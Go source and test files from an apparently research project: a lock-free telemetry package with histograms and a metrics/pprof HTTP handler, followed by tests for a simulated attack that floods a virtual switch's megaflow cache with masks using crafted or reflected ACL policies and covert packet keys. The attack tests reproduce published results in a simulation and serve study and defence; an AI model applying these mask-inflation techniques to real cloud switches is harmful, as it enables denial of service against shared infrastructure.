			Count: h.Count, Sum: h.Sum, Mean: h.Mean(),
			P50: h.Quantile(0.50), P95: h.Quantile(0.95), P99: h.Quantile(0.99), Max: h.Max,
		}
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(js)
}
