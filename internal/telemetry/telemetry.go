// Package telemetry is the live observability substrate of the
// datapath: a process-wide instrument registry (counters, gauges, and
// log-linear latency histograms) whose recording paths are
// allocation-free and lock-free, so the //lint:hotpath frame path can
// be instrumented without losing its zero-alloc contract.
//
// Recording and scraping are decoupled. Instruments are resolved once
// at registration time — never looked up on the record path — and
// record through atomic operations on preallocated, cache-line-padded
// cells. Snapshot assembles a point-in-time copy by reading those
// atomics, so a scrape never takes a lock the recorders can contend
// on; Delta subtracts two snapshots for rate windows. Exposition
// (Prometheus text and JSON, see expose.go) renders snapshots, and
// Handler (http.go) serves them alongside net/http/pprof.
//
// The wall clock enters the deterministic simulation tree only through
// this package: //lint:deterministic layers record logical units
// (flows per round, visits per burst), while the dataplane — which is
// allowed wall time — stamps latency histograms with Clock(),
// monotonic nanoseconds since process start.
package telemetry

import (
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// numShards is the writer-shard count of counters and histogram
// count/sum accumulators. Single-writer recorders use shard 0; genuine
// multi-writer paths spread via AddShard/RecordShard. Power of two so
// the shard mask is a single AND.
const numShards = 8

// cell is one padded accumulator: the padding keeps adjacent shards on
// distinct cache lines so cross-core writers do not false-share.
type cell struct {
	n atomic.Uint64
	_ [56]byte
}

// Label is one key=value pair qualifying an instrument (e.g. the
// switch or tier name). Instruments with the same name but different
// labels are distinct time series.
type Label struct {
	Key, Value string
}

// L is shorthand for constructing a Label.
func L(k, v string) Label { return Label{Key: k, Value: v} }

// Counter is a monotonically increasing uint64, sharded across padded
// cells. Add/Inc are allocation-free atomic operations safe for
// concurrent use; Value sums the shards.
type Counter struct {
	name   string
	labels []Label
	cells  [numShards]cell
}

// Name returns the metric name.
func (c *Counter) Name() string { return c.name }

// Inc adds 1 on shard 0.
func (c *Counter) Inc() { c.cells[0].n.Add(1) }

// Add adds d on shard 0.
func (c *Counter) Add(d uint64) { c.cells[0].n.Add(d) }

// AddShard adds d on the given writer shard (masked into range). Use
// distinct shards from distinct writer goroutines to avoid cache-line
// ping-pong on one cell.
func (c *Counter) AddShard(shard int, d uint64) {
	c.cells[shard&(numShards-1)].n.Add(d)
}

// Store overwrites the counter with an absolute cumulative value.
// It is for single-publisher wiring where a layer already maintains
// its own monotonic totals (guard admission stats, quota rejects) and
// republishes them on a tick; such publishers must never mix Store
// with Add, and must be the counter's only writer.
func (c *Counter) Store(v uint64) {
	c.cells[0].n.Store(v)
	for i := 1; i < numShards; i++ {
		c.cells[i].n.Store(0)
	}
}

// Value returns the current total across shards.
func (c *Counter) Value() uint64 {
	var t uint64
	for i := range c.cells {
		t += c.cells[i].n.Load()
	}
	return t
}

// Gauge is an instantaneous float64 value (entries resident, flow
// limit, breaker state). Set/Value are single atomic operations.
type Gauge struct {
	name   string
	labels []Label
	bits   atomic.Uint64
}

// Name returns the metric name.
func (g *Gauge) Name() string { return g.name }

// Set stores v.
func (g *Gauge) Set(v float64) { g.bits.Store(math.Float64bits(v)) }

// SetInt stores an integer value.
func (g *Gauge) SetInt(v int) { g.Set(float64(v)) }

// Value loads the current value.
func (g *Gauge) Value() float64 { return math.Float64frombits(g.bits.Load()) }

// Registry is the process-wide instrument set. Registration (Counter,
// Gauge, Histogram) takes the registry lock and is idempotent per
// (name, labels); recording through the returned handles never does.
type Registry struct {
	mu         sync.RWMutex
	counters   []*Counter
	gauges     []*Gauge
	histograms []*Histogram
	index      map[string]any
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{index: make(map[string]any)}
}

// identity is the map key of an instrument: name plus canonicalized
// labels.
func identity(name string, labels []Label) string {
	if len(labels) == 0 {
		return name
	}
	var b strings.Builder
	b.WriteString(name)
	for _, l := range labels {
		b.WriteByte('|')
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String()
}

// Counter registers (or returns the existing) counter under
// name+labels. Panics if the identity is already bound to a different
// instrument kind — that is a programming error, not a runtime
// condition.
func (r *Registry) Counter(name string, labels ...Label) *Counter {
	r.mu.Lock()
	defer r.mu.Unlock()
	id := identity(name, labels)
	if got, ok := r.index[id]; ok {
		c, ok := got.(*Counter)
		if !ok {
			panic("telemetry: " + id + " already registered as a different kind")
		}
		return c
	}
	c := &Counter{name: name, labels: append([]Label(nil), labels...)}
	r.counters = append(r.counters, c)
	r.index[id] = c
	return c
}

// Gauge registers (or returns the existing) gauge under name+labels.
func (r *Registry) Gauge(name string, labels ...Label) *Gauge {
	r.mu.Lock()
	defer r.mu.Unlock()
	id := identity(name, labels)
	if got, ok := r.index[id]; ok {
		g, ok := got.(*Gauge)
		if !ok {
			panic("telemetry: " + id + " already registered as a different kind")
		}
		return g
	}
	g := &Gauge{name: name, labels: append([]Label(nil), labels...)}
	r.gauges = append(r.gauges, g)
	r.index[id] = g
	return g
}

// Histogram registers (or returns the existing) histogram under
// name+labels.
func (r *Registry) Histogram(name string, labels ...Label) *Histogram {
	r.mu.Lock()
	defer r.mu.Unlock()
	id := identity(name, labels)
	if got, ok := r.index[id]; ok {
		h, ok := got.(*Histogram)
		if !ok {
			panic("telemetry: " + id + " already registered as a different kind")
		}
		return h
	}
	h := &Histogram{name: name, labels: append([]Label(nil), labels...)}
	r.histograms = append(r.histograms, h)
	r.index[id] = h
	return h
}

// Snapshot copies every instrument's current value into an immutable
// point-in-time view, sorted by name then labels for stable
// exposition. It reads only atomics (plus the registry's RLock to
// enumerate instruments), so concurrent recorders are never blocked.
func (r *Registry) Snapshot() *Snapshot {
	r.mu.RLock()
	defer r.mu.RUnlock()
	s := &Snapshot{TakenAt: time.Now()}
	s.Counters = make([]CounterPoint, len(r.counters))
	for i, c := range r.counters {
		s.Counters[i] = CounterPoint{Name: c.name, Labels: c.labels, Value: c.Value()}
	}
	s.Gauges = make([]GaugePoint, len(r.gauges))
	for i, g := range r.gauges {
		s.Gauges[i] = GaugePoint{Name: g.name, Labels: g.labels, Value: g.Value()}
	}
	s.Histograms = make([]HistogramPoint, len(r.histograms))
	for i, h := range r.histograms {
		s.Histograms[i] = h.snapshot()
	}
	sort.Slice(s.Counters, func(i, j int) bool {
		return pointLess(s.Counters[i].Name, s.Counters[i].Labels, s.Counters[j].Name, s.Counters[j].Labels)
	})
	sort.Slice(s.Gauges, func(i, j int) bool {
		return pointLess(s.Gauges[i].Name, s.Gauges[i].Labels, s.Gauges[j].Name, s.Gauges[j].Labels)
	})
	sort.Slice(s.Histograms, func(i, j int) bool {
		return pointLess(s.Histograms[i].Name, s.Histograms[i].Labels, s.Histograms[j].Name, s.Histograms[j].Labels)
	})
	return s
}

func pointLess(an string, al []Label, bn string, bl []Label) bool {
	if an != bn {
		return an < bn
	}
	return identity(an, al) < identity(bn, bl)
}

// Snapshot is a point-in-time copy of a registry.
type Snapshot struct {
	TakenAt    time.Time
	Counters   []CounterPoint
	Gauges     []GaugePoint
	Histograms []HistogramPoint
}

// CounterPoint is one counter sample.
type CounterPoint struct {
	Name   string
	Labels []Label
	Value  uint64
}

// GaugePoint is one gauge sample.
type GaugePoint struct {
	Name   string
	Labels []Label
	Value  float64
}

// CounterValue returns the sum of every counter named name in the
// snapshot (across label sets), and whether any was present.
func (s *Snapshot) CounterValue(name string) (uint64, bool) {
	var t uint64
	found := false
	for i := range s.Counters {
		if s.Counters[i].Name == name {
			t += s.Counters[i].Value
			found = true
		}
	}
	return t, found
}

// GaugeValue returns the first gauge named name (any label set), and
// whether one was present.
func (s *Snapshot) GaugeValue(name string) (float64, bool) {
	for i := range s.Gauges {
		if s.Gauges[i].Name == name {
			return s.Gauges[i].Value, true
		}
	}
	return 0, false
}

// HistogramPoint returns the first histogram named name (any label
// set), or nil.
func (s *Snapshot) HistogramPoint(name string) *HistogramPoint {
	for i := range s.Histograms {
		if s.Histograms[i].Name == name {
			return &s.Histograms[i]
		}
	}
	return nil
}

// Delta returns a snapshot holding the change since prev: counters and
// histogram populations are subtracted pairwise by identity (missing
// in prev means "since zero"), gauges keep their current value, and a
// histogram's Max is the current cumulative max (per-window maxima are
// not recoverable from cumulative state). TakenAt is s's scrape time.
func (s *Snapshot) Delta(prev *Snapshot) *Snapshot {
	d := &Snapshot{TakenAt: s.TakenAt}
	prevCounters := make(map[string]uint64, len(prev.Counters))
	for _, c := range prev.Counters {
		prevCounters[identity(c.Name, c.Labels)] = c.Value
	}
	d.Counters = make([]CounterPoint, len(s.Counters))
	for i, c := range s.Counters {
		c.Value -= prevCounters[identity(c.Name, c.Labels)]
		d.Counters[i] = c
	}
	d.Gauges = append([]GaugePoint(nil), s.Gauges...)
	prevHist := make(map[string]*HistogramPoint, len(prev.Histograms))
	for i := range prev.Histograms {
		h := &prev.Histograms[i]
		prevHist[identity(h.Name, h.Labels)] = h
	}
	d.Histograms = make([]HistogramPoint, len(s.Histograms))
	for i := range s.Histograms {
		d.Histograms[i] = s.Histograms[i].delta(prevHist[identity(s.Histograms[i].Name, s.Histograms[i].Labels)])
	}
	return d
}

// epoch anchors Clock; monotonic since process start.
var epoch = time.Now()

// Clock returns monotonic nanoseconds since process start. It is the
// only wall-clock primitive the instrumented layers use: calling it is
// allocation-free (hot-path safe), and routing wall time through here
// keeps `time` itself out of the //lint:deterministic packages.
func Clock() uint64 { return uint64(time.Since(epoch)) }
