package telemetry

import (
	"math/bits"
	"sync/atomic"
)

// The histogram is log-linear (HDR-shaped): values below subCount land
// in unit-wide buckets; above that, each power-of-two range splits
// into subCount linear sub-buckets, giving a constant ~6% relative
// error across the full uint64 range with a fixed 976-bucket table.
// Everything is preallocated at registration, so Record is pure index
// arithmetic plus atomic adds — no allocation, no locks, no branches
// that scale with population — and is safe under the hotpathalloc
// analyzer when called from //lint:hotpath roots.
const (
	subBits    = 4
	subCount   = 1 << subBits
	numBuckets = subCount + (64-subBits)*subCount
)

// bucketIndex maps a value to its bucket.
func bucketIndex(v uint64) int {
	if v < subCount {
		return int(v)
	}
	e := bits.Len64(v) - 1 // msb position, subBits..63
	sub := int((v >> (uint(e) - subBits)) & (subCount - 1))
	return subCount + (e-subBits)*subCount + sub
}

// bucketUpper returns the inclusive upper bound of bucket i — the
// value quantile estimation reports, making quantiles conservative
// (never under-reported) within one sub-bucket of truth.
func bucketUpper(i int) uint64 {
	if i < subCount {
		return uint64(i)
	}
	block := (i - subCount) / subCount
	sub := uint64((i - subCount) % subCount)
	e := uint(block) + subBits
	lo := uint64(1)<<e + sub<<(e-subBits)
	return lo + uint64(1)<<(e-subBits) - 1
}

// Histogram records a distribution of uint64 values (latencies in
// nanoseconds, visits per burst, flows per round) with quantile
// estimation at snapshot time. Bucket increments are naturally spread
// across the bucket array; the count/sum accumulators are sharded like
// Counter cells for multi-writer recorders.
type Histogram struct {
	name   string
	labels []Label
	counts [numBuckets]atomic.Uint64
	count  [numShards]cell
	sum    [numShards]cell
	max    atomic.Uint64
}

// Name returns the metric name.
func (h *Histogram) Name() string { return h.name }

// Record adds one observation on shard 0.
func (h *Histogram) Record(v uint64) { h.RecordShard(0, v) }

// RecordShard adds one observation, accumulating count/sum on the
// given writer shard.
func (h *Histogram) RecordShard(shard int, v uint64) {
	h.counts[bucketIndex(v)].Add(1)
	i := shard & (numShards - 1)
	h.count[i].n.Add(1)
	h.sum[i].n.Add(v)
	for {
		cur := h.max.Load()
		if v <= cur || h.max.CompareAndSwap(cur, v) {
			return
		}
	}
}

// snapshot copies the histogram into a point.
func (h *Histogram) snapshot() HistogramPoint {
	p := HistogramPoint{Name: h.name, Labels: h.labels, Max: h.max.Load()}
	for i := range h.count {
		p.Count += h.count[i].n.Load()
		p.Sum += h.sum[i].n.Load()
	}
	p.buckets = make([]uint64, numBuckets)
	for i := range h.counts {
		p.buckets[i] = h.counts[i].Load()
	}
	return p
}

// HistogramPoint is one histogram sample: cumulative count, sum, max,
// and the full bucket population for quantile estimation and deltas.
type HistogramPoint struct {
	Name   string
	Labels []Label
	Count  uint64
	Sum    uint64
	Max    uint64

	buckets []uint64
}

// Quantile estimates the q-quantile (0 < q <= 1) as the upper bound of
// the bucket holding the ceil(q*Count)-th observation, clamped to Max.
// Returns 0 on an empty histogram.
func (p *HistogramPoint) Quantile(q float64) uint64 {
	if p.Count == 0 {
		return 0
	}
	target := uint64(q * float64(p.Count))
	if float64(target) < q*float64(p.Count) || target == 0 {
		target++
	}
	var cum uint64
	for i, n := range p.buckets {
		cum += n
		if cum >= target {
			u := bucketUpper(i)
			if u > p.Max {
				return p.Max
			}
			return u
		}
	}
	return p.Max
}

// Mean returns the arithmetic mean, or 0 on an empty histogram.
func (p *HistogramPoint) Mean() float64 {
	if p.Count == 0 {
		return 0
	}
	return float64(p.Sum) / float64(p.Count)
}

// delta subtracts prev (same identity) bucket-wise; nil prev means
// "since zero". Max stays cumulative — see Snapshot.Delta.
func (p *HistogramPoint) delta(prev *HistogramPoint) HistogramPoint {
	d := HistogramPoint{Name: p.Name, Labels: p.Labels, Count: p.Count, Sum: p.Sum, Max: p.Max}
	d.buckets = append([]uint64(nil), p.buckets...)
	if prev != nil {
		d.Count -= prev.Count
		d.Sum -= prev.Sum
		for i := range d.buckets {
			d.buckets[i] -= prev.buckets[i]
		}
	}
	return d
}
