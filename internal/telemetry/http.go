package telemetry

import (
	"net"
	"net/http"
	"net/http/pprof"
)

// Handler returns the scrape mux for a registry:
//
//	/metrics        Prometheus text exposition
//	/metrics.json   JSON exposition
//	/debug/pprof/   the standard net/http/pprof surface
//
// Every scrape takes a fresh Snapshot, so serving concurrently with
// recording is safe and never blocks the recorders.
func (r *Registry) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.Snapshot().WriteProm(w)
	})
	mux.HandleFunc("/metrics.json", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = r.Snapshot().WriteJSON(w)
	})
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// Serve starts an HTTP listener on addr serving Handler in a
// background goroutine. It returns the bound address (useful with
// ":0") and a close function that stops the listener.
func Serve(addr string, r *Registry) (bound string, closeFn func() error, err error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, err
	}
	srv := &http.Server{Handler: r.Handler()}
	go func() { _ = srv.Serve(ln) }()
	return ln.Addr().String(), srv.Close, nil
}
