package telemetry

import (
	"encoding/json"
	"io"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"sync"
	"testing"
)

func TestRegistryIdempotentAndKinds(t *testing.T) {
	r := NewRegistry()
	c1 := r.Counter("x_total", L("sw", "a"))
	c2 := r.Counter("x_total", L("sw", "a"))
	if c1 != c2 {
		t.Fatalf("re-registration returned a distinct counter")
	}
	if r.Counter("x_total", L("sw", "b")) == c1 {
		t.Fatalf("distinct labels must yield a distinct instrument")
	}
	defer func() {
		if recover() == nil {
			t.Fatalf("registering a gauge over a counter identity must panic")
		}
	}()
	r.Gauge("x_total", L("sw", "a"))
}

func TestCounterShardsAndStore(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c_total")
	c.Inc()
	c.Add(9)
	for s := 0; s < 2*numShards; s++ {
		c.AddShard(s, 1)
	}
	if got := c.Value(); got != 10+2*numShards {
		t.Fatalf("Value = %d, want %d", got, 10+2*numShards)
	}
	c.Store(42)
	if got := c.Value(); got != 42 {
		t.Fatalf("after Store: Value = %d, want 42", got)
	}
}

func TestGauge(t *testing.T) {
	r := NewRegistry()
	g := r.Gauge("g")
	g.Set(2.5)
	if g.Value() != 2.5 {
		t.Fatalf("Value = %v", g.Value())
	}
	g.SetInt(7)
	if g.Value() != 7 {
		t.Fatalf("Value = %v", g.Value())
	}
}

// TestBucketRoundTrip pins the log-linear bucket geometry: every value
// lands in a bucket whose bounds contain it, indexes are monotone, and
// the relative error of the upper bound stays within one sub-bucket.
func TestBucketRoundTrip(t *testing.T) {
	vals := []uint64{0, 1, 15, 16, 17, 31, 32, 63, 64, 1000, 4096, 1 << 20, 1<<40 + 12345, 1<<63 + 1}
	prev := -1
	for _, v := range vals {
		i := bucketIndex(v)
		if i <= prev {
			t.Fatalf("bucketIndex not monotone at %d: %d <= %d", v, i, prev)
		}
		prev = i
		if u := bucketUpper(i); u < v {
			t.Fatalf("bucketUpper(%d) = %d < value %d", i, u, v)
		}
		if i > 0 && bucketUpper(i-1) >= v {
			t.Fatalf("value %d should not fit bucket %d (upper %d)", v, i-1, bucketUpper(i-1))
		}
	}
	if i := bucketIndex(^uint64(0)); i != numBuckets-1 {
		t.Fatalf("max value bucket = %d, want %d", i, numBuckets-1)
	}
}

func TestHistogramQuantiles(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat_ns")
	for v := uint64(1); v <= 100; v++ {
		h.Record(v)
	}
	p := h.snapshot()
	if p.Count != 100 || p.Sum != 5050 || p.Max != 100 {
		t.Fatalf("count/sum/max = %d/%d/%d", p.Count, p.Sum, p.Max)
	}
	// Log-linear estimation is conservative: quantiles land at or above
	// the true value, within one sub-bucket (~6%).
	for _, tc := range []struct {
		q    float64
		want uint64
	}{{0.5, 50}, {0.95, 95}, {0.99, 99}, {1.0, 100}} {
		got := p.Quantile(tc.q)
		if got < tc.want || float64(got) > float64(tc.want)*1.07+1 {
			t.Errorf("Quantile(%v) = %d, want within [%d, %.0f]", tc.q, got, tc.want, float64(tc.want)*1.07+1)
		}
	}
	var empty HistogramPoint
	if empty.Quantile(0.5) != 0 || empty.Mean() != 0 {
		t.Errorf("empty histogram must report zeros")
	}
}

func TestSnapshotDelta(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c_total")
	g := r.Gauge("g")
	h := r.Histogram("h")
	c.Add(5)
	g.Set(1)
	h.Record(10)
	s1 := r.Snapshot()
	c.Add(3)
	g.Set(9)
	h.Record(20)
	h.Record(30)
	s2 := r.Snapshot()
	d := s2.Delta(s1)
	if v, _ := d.CounterValue("c_total"); v != 3 {
		t.Errorf("counter delta = %d, want 3", v)
	}
	if v, _ := d.GaugeValue("g"); v != 9 {
		t.Errorf("gauge in delta = %v, want current value 9", v)
	}
	hp := d.HistogramPoint("h")
	if hp.Count != 2 || hp.Sum != 50 {
		t.Errorf("histogram delta count/sum = %d/%d, want 2/50", hp.Count, hp.Sum)
	}
	if q := hp.Quantile(1.0); q < 30 {
		t.Errorf("delta p100 = %d, want >= 30", q)
	}
}

func TestSnapshotSortedAndPromOutput(t *testing.T) {
	r := NewRegistry()
	r.Counter("b_total").Add(2)
	r.Counter("a_total", L("sw", "s1")).Add(1)
	r.Gauge("z_gauge").Set(1.5)
	r.Histogram("lat", L("tier", "emc")).Record(7)
	s := r.Snapshot()
	names := make([]string, len(s.Counters))
	for i, c := range s.Counters {
		names[i] = c.Name
	}
	if !sort.StringsAreSorted(names) {
		t.Fatalf("counters not sorted: %v", names)
	}
	var b strings.Builder
	if err := s.WriteProm(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# TYPE a_total counter\na_total{sw=\"s1\"} 1\n",
		"b_total 2\n",
		"# TYPE z_gauge gauge\nz_gauge 1.5\n",
		`lat{tier="emc",quantile="0.5"} 7`,
		"lat_sum{tier=\"emc\"} 7\nlat_count{tier=\"emc\"} 1\n",
		`lat_max{tier="emc"} 7`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("prom output missing %q in:\n%s", want, out)
		}
	}
}

func TestWriteJSON(t *testing.T) {
	r := NewRegistry()
	r.Counter("c_total", L("sw", "s1")).Add(4)
	r.Histogram("h").Record(12)
	var b strings.Builder
	if err := r.Snapshot().WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Counters []struct {
			Name   string            `json:"name"`
			Labels map[string]string `json:"labels"`
			Value  uint64            `json:"value"`
		} `json:"counters"`
		Histograms []struct {
			Name  string `json:"name"`
			Count uint64 `json:"count"`
			P99   uint64 `json:"p99"`
		} `json:"histograms"`
	}
	if err := json.Unmarshal([]byte(b.String()), &doc); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, b.String())
	}
	if len(doc.Counters) != 1 || doc.Counters[0].Value != 4 || doc.Counters[0].Labels["sw"] != "s1" {
		t.Errorf("unexpected counters: %+v", doc.Counters)
	}
	if len(doc.Histograms) != 1 || doc.Histograms[0].Count != 1 || doc.Histograms[0].P99 < 12 {
		t.Errorf("unexpected histograms: %+v", doc.Histograms)
	}
}

// TestConcurrentRecordAndScrape drives recorders from several
// goroutines while scraping snapshots — the lock-free contract under
// the race detector.
func TestConcurrentRecordAndScrape(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c_total")
	h := r.Histogram("h")
	g := r.Gauge("g")
	var wg sync.WaitGroup
	const writers, perWriter = 4, 2000
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(shard int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(int64(shard)))
			for i := 0; i < perWriter; i++ {
				c.AddShard(shard, 1)
				h.RecordShard(shard, uint64(rng.Intn(1000)))
				g.Set(float64(i))
			}
		}(w)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 50; i++ {
			s := r.Snapshot()
			var b strings.Builder
			_ = s.WriteProm(&b)
		}
	}()
	wg.Wait()
	<-done
	if got := c.Value(); got != writers*perWriter {
		t.Fatalf("counter = %d, want %d", got, writers*perWriter)
	}
	if p := r.Snapshot().HistogramPoint("h"); p.Count != writers*perWriter {
		t.Fatalf("histogram count = %d, want %d", p.Count, writers*perWriter)
	}
}

func TestHandlerEndpoints(t *testing.T) {
	r := NewRegistry()
	r.Counter("c_total").Add(3)
	srv := httptest.NewServer(r.Handler())
	defer srv.Close()
	for path, want := range map[string]string{
		"/metrics":      "c_total 3",
		"/metrics.json": `"c_total"`,
	} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || !strings.Contains(string(body), want) {
			t.Errorf("%s: status %d body %q, want to contain %q", path, resp.StatusCode, body, want)
		}
	}
	resp, err := http.Get(srv.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("pprof index status %d", resp.StatusCode)
	}
}

func TestClockMonotone(t *testing.T) {
	a := Clock()
	b := Clock()
	if b < a {
		t.Fatalf("Clock went backwards: %d then %d", a, b)
	}
}
