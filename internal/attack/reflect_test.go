package attack

import (
	"net/netip"
	"testing"

	"policyinject/internal/acl"
	"policyinject/internal/cms"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// TestReflectedAttackNoInjection is the extension's headline: the attacker
// never installs a policy. The victim's own microsegmentation whitelist
// plus a covert stream aimed at the victim's pod mints the masks.
func TestReflectedAttackNoInjection(t *testing.T) {
	c := cms.NewCluster()
	if _, err := c.AddNode("hv"); err != nil {
		t.Fatal(err)
	}
	victim, err := c.DeployPod("victim-corp", "backend", "hv")
	if err != nil {
		t.Fatal(err)
	}
	// The victim's ordinary two-entry policy: an admin host allowed in
	// full, and a public service port open to the world. Two entries =
	// two subtables = multiplicative ladders.
	victimPolicy := []acl.Entry{
		{Src: netip.MustParsePrefix("10.10.0.5/32")},
		{Proto: 6, DstPort: acl.Port(443)},
	}
	if err := c.ApplyPolicy("victim-corp", "backend", &cms.Policy{
		Name: "backend-ingress", Ingress: victimPolicy,
	}); err != nil {
		t.Fatal(err)
	}

	// The attacker reflects off it: guessed policy == actual policy.
	refl := &Reflected{VictimIP: victim.IP, Policy: victimPolicy}
	atk, err := refl.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if got := atk.PredictedMasks(); got != 512 { // 32 (ip/32) x 16 (port)
		t.Fatalf("predicted = %d, want 512", got)
	}

	sw := victim.Node.Switch
	keys, err := atk.Keys()
	if err != nil {
		t.Fatal(err)
	}
	denied := 0
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(victim.Port)) // arrives at the victim's port
		if d := sw.ProcessKey(1, keys[i]); d.Verdict.Verdict == flowtable.Deny {
			denied++
		}
	}
	if denied != len(keys) {
		t.Errorf("denied %d of %d: reflected covert packets must not reach the victim", denied, len(keys))
	}
	if got := sw.Megaflow().NumMasks(); got < 500 {
		t.Fatalf("reflected attack minted %d masks, want ~512", got)
	}
}

// TestReflectedCombinedEntryIsWeaker documents the subtable arithmetic:
// a single entry constraining both ip_src and tp_dst exposes only the
// first gate's ladder (32 masks), because the trie gates short-circuit.
func TestReflectedCombinedEntryIsWeaker(t *testing.T) {
	c := cms.NewCluster()
	if _, err := c.AddNode("hv"); err != nil {
		t.Fatal(err)
	}
	victim, _ := c.DeployPod("victim-corp", "backend", "hv")
	combined := []acl.Entry{{
		Src: netip.MustParsePrefix("10.10.0.5/32"), Proto: 6, DstPort: acl.Port(443),
	}}
	if err := c.ApplyPolicy("victim-corp", "backend", &cms.Policy{
		Name: "combined", Ingress: combined,
	}); err != nil {
		t.Fatal(err)
	}
	atk, err := (&Reflected{VictimIP: victim.IP, Policy: combined}).Plan()
	if err != nil {
		t.Fatal(err)
	}
	if got := atk.PredictedMasks(); got != 32 {
		t.Fatalf("predicted = %d, want 32 (first gate only)", got)
	}
	sw := victim.Node.Switch
	keys, _ := atk.Keys()
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(victim.Port))
		sw.ProcessKey(1, keys[i])
	}
	if got := sw.Megaflow().NumMasks(); got != 32 {
		t.Fatalf("minted %d masks, want 32", got)
	}
}

// TestReflectedPartialGuess: guessing only the port still yields its
// ladder — a graceful degradation, not all-or-nothing.
func TestReflectedPartialGuess(t *testing.T) {
	refl := &Reflected{
		VictimIP: netip.MustParseAddr("172.16.0.1"),
		Policy:   []acl.Entry{{Proto: 6, DstPort: acl.Port(443)}},
	}
	atk, err := refl.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if got := atk.PredictedMasks(); got != 16 {
		t.Fatalf("predicted = %d, want 16", got)
	}
}

// TestReflectedWidthFollowsVictimPrefix: a /24 whitelist exposes 24
// depths, not 32.
func TestReflectedWidthFollowsVictimPrefix(t *testing.T) {
	refl := &Reflected{
		VictimIP: netip.MustParseAddr("172.16.0.1"),
		Policy:   []acl.Entry{{Src: netip.MustParsePrefix("10.10.0.0/24")}},
	}
	atk, err := refl.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if got := atk.PredictedMasks(); got != 24 {
		t.Fatalf("predicted = %d, want 24", got)
	}
}

func TestReflectedPlanErrors(t *testing.T) {
	cases := []*Reflected{
		{},
		{VictimIP: netip.MustParseAddr("1.2.3.4")},
		{VictimIP: netip.MustParseAddr("1.2.3.4"), Policy: []acl.Entry{{}}}, // nothing to reflect
		{VictimIP: netip.MustParseAddr("1.2.3.4"),
			Policy: []acl.Entry{{SrcPort: acl.PortRange(1, 99)}}}, // ranges not reflectable as one value
	}
	for i, r := range cases {
		if _, err := r.Plan(); err == nil {
			t.Errorf("case %d accepted", i)
		}
	}
}

func TestReflectedDedupsFields(t *testing.T) {
	refl := &Reflected{
		VictimIP: netip.MustParseAddr("172.16.0.1"),
		Policy: []acl.Entry{
			// Both src entries gate on ip_src first: dedup to one ladder.
			{Src: netip.MustParsePrefix("10.0.0.0/8"), Proto: 6, DstPort: acl.Port(443)},
			{Src: netip.MustParsePrefix("192.168.0.0/16"), Proto: 6, DstPort: acl.Port(80)},
			// A port-only entry contributes the tp_dst ladder.
			{Proto: 6, DstPort: acl.Port(8080)},
		},
	}
	atk, err := refl.Plan()
	if err != nil {
		t.Fatal(err)
	}
	if len(atk.Fields) != 2 {
		t.Fatalf("fields = %d, want 2 (ip_src deduped + tp_dst)", len(atk.Fields))
	}
}
