package attack

import (
	"net/netip"
	"strings"
	"testing"

	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// installACL compiles the attack ACL into a fresh switch.
func installACL(t testing.TB, a *Attack) *dataplane.Switch {
	t.Helper()
	sw := dataplane.New("victim-hv")
	theACL, err := a.BuildACL()
	if err != nil {
		t.Fatal(err)
	}
	rules, err := theACL.Compile()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
	return sw
}

func TestPredictedMasksMatchesPaper(t *testing.T) {
	cases := []struct {
		name string
		a    *Attack
		want int
	}{
		{"single-field /8 (Fig 2)", SingleField(), 8},
		{"ip_src + tp_dst (512)", TwoField(), 512},
		{"ip_src + tp_dst + tp_src (8192)", ThreeField(), 8192},
	}
	for _, c := range cases {
		if got := c.a.PredictedMasks(); got != c.want {
			t.Errorf("%s: predicted = %d, want %d", c.name, got, c.want)
		}
	}
}

func TestKeysCountAndUniqueness(t *testing.T) {
	a := TwoField()
	keys, err := a.Keys()
	if err != nil {
		t.Fatal(err)
	}
	if len(keys) != 512 {
		t.Fatalf("keys = %d", len(keys))
	}
	seen := map[flow.Key]bool{}
	for _, k := range keys {
		if seen[k] {
			t.Fatal("duplicate covert key")
		}
		seen[k] = true
	}
}

// TestSingleFieldInjection executes the Fig. 2 attack end to end and
// checks the megaflow cache holds exactly the paper's 8 masks / 8 entries.
